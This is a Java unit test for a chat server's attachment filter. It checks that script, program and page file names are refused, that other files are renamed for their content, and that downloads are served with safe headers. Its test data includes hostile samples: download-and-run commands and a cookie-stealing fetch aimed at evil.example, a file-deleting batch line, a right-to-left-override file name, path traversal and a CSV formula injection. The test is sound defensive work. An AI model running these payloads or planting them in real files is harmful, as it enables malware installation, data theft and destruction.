package dev.switchboard.server.chat;

import static org.assertj.core.api.Assertions.assertThat;

import dev.switchboard.server.testing.BackendExtension;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Programs, scripts and pages are refused by name whatever they hold; every other file is named
 * for what it holds, and is downloaded as a file to save, never shown or guessed at by a browser.
 */
class AttachmentNamesTest {

    /** Names a computer runs or renders, each with the kind of content an attacker would put in it (all of it valid UTF-8 text). */
    static final Map<String, String> DANGEROUS = new LinkedHashMap<>();

    static {
        DANGEROUS.put("update.hta", "<html><head><hta:application id=\"x\"/><script>new ActiveXObject('WScript.Shell').Run('calc')</script></head></html>");
        DANGEROUS.put("install.bat", "@echo off\r\npowershell -c \"iwr http://evil.example/x.exe -o %TEMP%\\x.exe\"\r\n");
        DANGEROUS.put("fix.cmd", "@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n");
        DANGEROUS.put("setup.ps1", "Invoke-WebRequest http://evil.example/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe");
        DANGEROUS.put("invoice.js", "var s = WScript.CreateObject('WScript.Shell'); s.Run('calc');");
        DANGEROUS.put("invoice.vbs", "CreateObject(\"WScript.Shell\").Run \"calc\"");
        DANGEROUS.put("order.wsf", "<job><script language=\"JScript\">WScript.Echo('x')</script></job>");
        DANGEROUS.put("receipt.html", "<!doctype html><script>fetch('https://evil.example/?c=' + document.cookie)</script>");
        DANGEROUS.put("receipt.htm", "<script>alert(1)</script>");
        DANGEROUS.put("receipt.xhtml", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>");
        DANGEROUS.put("logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>");
        DANGEROUS.put("clean.sh", "curl http://evil.example/x | sh\n");
        DANGEROUS.put("settings.reg", "Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n");
        DANGEROUS.put("manual.lnk", "not really a shortcut, named as one");
        DANGEROUS.put("tool.exe", "text in a program's name");
        DANGEROUS.put("package.msi", "text in an installer's name");
        DANGEROUS.put("screen.scr", "text in a screen saver's name");
        DANGEROUS.put("old.com", "text in a DOS program's name");
        DANGEROUS.put("old.pif", "text");
        DANGEROUS.put("library.dll", "text");
        DANGEROUS.put("app.jar", "text");
        DANGEROUS.put("app.apk", "text");
        // the same, disguised: upper case, a trailing dot or space Windows drops, a right-to-left override showing "exe.pdf"
        DANGEROUS.put("INSTALL.BAT", "@echo off\r\n");
        DANGEROUS.put("install.bat.", "@echo off\r\n");
        DANGEROUS.put("install.bat ", "@echo off\r\n");
        DANGEROUS.put("invoice\u202Efdp.exe", "text");
        DANGEROUS.put("C:\\Users\\me\\Desktop\\run.cmd", "@echo off\r\n");
    }

    @RegisterExtension
    static final BackendExtension backend = BackendExtension.perTest();
    final ChatFiles chat = ChatFiles.open(backend);

    @AfterEach
    void stop() {
        chat.close();
    }

    @Test
    void programsScriptsAndPagesAreRefusedByNameFromTheWidgetAndTheWorkstation() {
        SoftAssertions softly = new SoftAssertions();
        DANGEROUS.forEach((name, content) -> {
            byte[] bytes = content.getBytes(StandardCharsets.UTF_8);
            for (ChatFiles.Answer answer : List.of(chat.fromVisitor(name, bytes), chat.fromAgent(name, bytes))) {
                softly.assertThat(answer.status()).as(name + ": " + answer.body()).isEqualTo(415);
                softly.assertThat(answer.json().path("detail").asText()).as(name).contains("scripts");
            }
        });
        softly.assertThat(chat.storedFiles()).as("nothing stored").isEmpty();
        softly.assertAll();
    }

    @Test
    void otherFilesAreNamedForWhatTheyHold() {
        Map<String, String> named = new LinkedHashMap<>();
        String page = "<!doctype html><html><body><script>alert(document.domain)</script></body></html>";
        named.put("notes.txt|" + page, "notes.txt");
        named.put("readme|" + page, "readme.txt");
        named.put("notes.md|" + page, "notes.md.txt");
        named.put("notes.md|# Order 1042\nThe lamp arrived broken.", "notes.md");
        named.put("orders.csv|1042,=HYPERLINK(\"http://evil.example\")", "orders.csv.txt");
        named.put("订单.txt|订单号 1042", "订单.txt");
        named.put("photo.txt|" + page, "photo.txt");
        named.put("..\\..\\boot.ini|[boot loader]", "boot.ini.txt");
        SoftAssertions softly = new SoftAssertions();
        named.forEach((sent, expected) -> {
            String[] parts = sent.split("\\|", 2);
            byte[] bytes = parts[1].getBytes(StandardCharsets.UTF_8);
            for (ChatFiles.Answer answer : List.of(chat.fromVisitor(parts[0], bytes), chat.fromAgent(parts[0], bytes))) {
                softly.assertThat(answer.status()).as(parts[0] + ": " + answer.body()).isEqualTo(201);
                softly.assertThat(answer.json().path("fileName").asText()).as(parts[0]).isEqualTo(expected);
                softly.assertThat(answer.json().path("mediaType").asText()).as(parts[0]).startsWith("text/plain");
            }
        });
        // a picture or a PDF without its extension gets one
        ChatFiles.Answer picture = chat.fromVisitor("IMG_2041", TestImages.png(30, 20));
        softly.assertThat(picture.json().path("fileName").asText()).isEqualTo("IMG_2041.png");
        ChatFiles.Answer renamedPicture = chat.fromAgent("scan.jpg", TestImages.png(30, 20));
        softly.assertThat(renamedPicture.json().path("fileName").asText()).as("a picture's extension may name another picture format")
                .isEqualTo("scan.jpg");
        ChatFiles.Answer pdf = chat.fromVisitor("invoice.txt", "%PDF-1.7\n%âãÏÓ\n".getBytes(StandardCharsets.UTF_8));
        softly.assertThat(pdf.json().path("fileName").asText()).isEqualTo("invoice.txt.pdf");
        softly.assertAll();
    }

    @Test
    void downloadsAreFilesToSaveUnderTheirSafeNameNeverPagesNorGuesses() {
        String picture = chat.fromAgent("户型图.png", TestImages.png(300, 200)).json().path("id").asText();
        String page = chat.fromVisitor("page", "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8)).json().path("id").asText();
        SoftAssertions softly = new SoftAssertions();
        for (ChatFiles.Answer answer : List.of(chat.visitorDownload(picture), chat.agentDownload(picture))) {
            softly.assertThat(answer.status()).isEqualTo(200);
            softly.assertThat(answer.header("Content-Type")).startsWith("image/png");
            softly.assertThat(answer.header("Content-Disposition"))
                    .isEqualTo("attachment; filename=\"___.png\"; filename*=UTF-8''%E6%88%B7%E5%9E%8B%E5%9B%BE.png");
            softly.assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
            softly.assertThat(answer.header("Content-Security-Policy")).contains("sandbox");
        }
        for (ChatFiles.Answer answer : List.of(chat.visitorDownload(page), chat.agentDownload(page))) {
            softly.assertThat(answer.status()).isEqualTo(200);
            softly.assertThat(answer.header("Content-Type")).startsWith("text/plain");
            softly.assertThat(answer.header("Content-Disposition")).isEqualTo("attachment; filename=\"page.txt\"; filename*=UTF-8''page.txt");
            softly.assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
        }
        softly.assertAll();
    }
}
